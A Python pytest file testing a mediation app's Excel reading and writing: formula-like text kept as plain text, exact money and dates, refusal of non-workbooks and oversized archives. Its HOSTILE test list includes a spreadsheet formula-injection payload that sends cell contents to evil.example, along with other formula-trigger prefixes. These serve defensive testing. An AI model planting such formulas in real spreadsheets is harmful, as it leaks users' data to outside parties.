"""Workbooks written and read back: text stays text (no formula ever), money is an
exact number with two decimals, dates are dates, and non-workbooks are refused."""

import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from mediation_app import spreadsheets
from mediation_app.spreadsheets import (
    NotAWorkbook,
    cell_date,
    cell_decimal,
    read_workbook,
    send_workbook,
    write_workbook,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _written(rows, headings=("名称", "金额", "日期")) -> bytes:
    buffer = io.BytesIO()
    write_workbook(buffer, headings, rows, title="台账")
    return buffer.getvalue()


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_text_that_looks_like_a_formula_is_written_as_text_and_read_back_unchanged():
    content = _written([(text, None, None) for text in HOSTILE])
    assert "<f>" not in _sheet_xml(content)
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [sheet.cell(row=n, column=1) for n in range(2, 2 + len(HOSTILE))]
    # An XML reader may normalise a stored CR to a line feed (lxml before 6.1 did);
    # the text is otherwise what was written.
    for cell, text in zip(cells, HOSTILE, strict=True):
        assert cell.value in (text, text.replace("\r", "\n"))
    assert {c.data_type for c in cells} == {"s"}
    assert all(c.quotePrefix for c in cells)  # Excel's hidden apostrophe: shown, never evaluated


def test_ordinary_text_has_no_quote_prefix():
    sheet = load_workbook(io.BytesIO(_written([("江苏常安纺织科技有限公司", None, None)]))).active
    assert sheet["A2"].value == "江苏常安纺织科技有限公司"
    assert not sheet["A2"].quotePrefix


def test_money_is_an_exact_number_with_two_decimals_and_dates_are_dates():
    amounts = [Decimal("580000.12"), Decimal("999999999999.99"), Decimal("0.10"), Decimal("7")]
    content = _written([("x", amount, date(2021, 3, 5)) for amount in amounts])
    xml = _sheet_xml(content)
    for text in ("580000.12", "999999999999.99", "0.10", "7.00"):
        assert f"<v>{text}</v>" in xml
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["B2"].data_type == "n"
    assert sheet["B2"].number_format == "#,##0.00"
    assert sheet["C2"].is_date and sheet["C2"].value.date() == date(2021, 3, 5)
    assert [cell_decimal(sheet.cell(row=n, column=2).value) for n in range(2, 6)] == amounts
    assert cell_date(sheet["C2"].value) == date(2021, 3, 5)


def test_reading_skips_empty_rows_and_numbers_rows_as_excel_shows_them():
    content = _written([("甲", Decimal("1.00"), None), (None, None, None), ("乙", None, None)])
    with read_workbook(io.BytesIO(content), width=3) as sheet:
        assert sheet.headings == ["名称", "金额", "日期"]
        assert [(number, values[0]) for number, values in sheet.rows] == [(2, "甲"), (4, "乙")]


def _workbook(cells: dict[str, object]) -> bytes:
    workbook = Workbook()
    for coordinate, value in cells.items():
        workbook.active[coordinate] = value
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_a_sheet_not_starting_at_a1_keeps_excels_rows_and_columns():
    content = _workbook({"B1": "名称", "C1": "金额", "B3": "甲", "C3": 12.5, "C4": 3})
    with read_workbook(io.BytesIO(content), width=3) as sheet:
        # Column A is empty, so the first heading is blank: the ledger's check reports it.
        assert sheet.headings == ["", "名称", "金额"]
        assert list(sheet.rows) == [(3, ["", "甲", 12.5]), (4, ["", "", 3])]


def test_an_empty_sheet_has_no_headings_and_no_rows():
    with read_workbook(io.BytesIO(_workbook({})), width=3) as sheet:
        assert (sheet.headings, list(sheet.rows), sheet.size) == ([], [], 0)


def test_an_archive_that_unpacks_too_large_is_refused_before_it_is_read(monkeypatch):
    content = _written([("甲", None, None)])
    monkeypatch.setattr(spreadsheets, "MAX_UNPACKED_BYTES", len(content))  # the XML inside is larger
    with pytest.raises(NotAWorkbook) as refusal, read_workbook(io.BytesIO(content), width=3):
        pass
    assert "too large" in str(refusal.value)


def test_binary_float_noise_is_not_a_third_decimal_but_a_real_third_decimal_is_kept():
    assert cell_decimal(0.1 + 0.2) == Decimal("0.30")
    assert cell_decimal(12.345) == Decimal("12.345")  # refused later by the amount parser
    assert cell_decimal(580000) == Decimal("580000.00")
    assert cell_decimal(float("nan")).is_nan()
    assert cell_decimal("１２３") == "１２３"  # text goes to the usual parser as text


def _zip_without_workbook() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "not an Excel workbook"),
        (b"<html><body>ledger</body></html>", "not an Excel workbook"),
        ("案件编号,受理日期\n".encode(), "not an Excel workbook"),
        (b"%PDF-1.4\n", "not an Excel workbook"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "old .xls"),
        (b"PK\x03\x04 truncated", "could not be read"),
        (_zip_without_workbook(), "could not be read"),
    ],
    ids=["empty", "html", "csv", "pdf", "xls", "broken-zip", "zip-not-xlsx"],
)
def test_files_that_are_not_workbooks_are_refused_with_a_reason(content, message):
    with pytest.raises(NotAWorkbook) as refusal, read_workbook(io.BytesIO(content), width=3):
        pass
    assert message in str(refusal.value)


def test_a_download_streams_from_a_temporary_file(app):
    rows = ((f"企业{n}", Decimal(n), None) for n in range(1, 1001))
    with app.test_request_context():
        response = send_workbook(["名称", "金额", "日期"], rows, download_name="台账.xlsx", title="台账")
        response.direct_passthrough = False
        content = response.get_data()
        response.close()
    assert "filename*=UTF-8''%E5%8F%B0%E8%B4%A6.xlsx" in response.headers["Content-Disposition"]
    with read_workbook(io.BytesIO(content), width=3) as sheet:
        assert sum(1 for _row in sheet.rows) == 1000
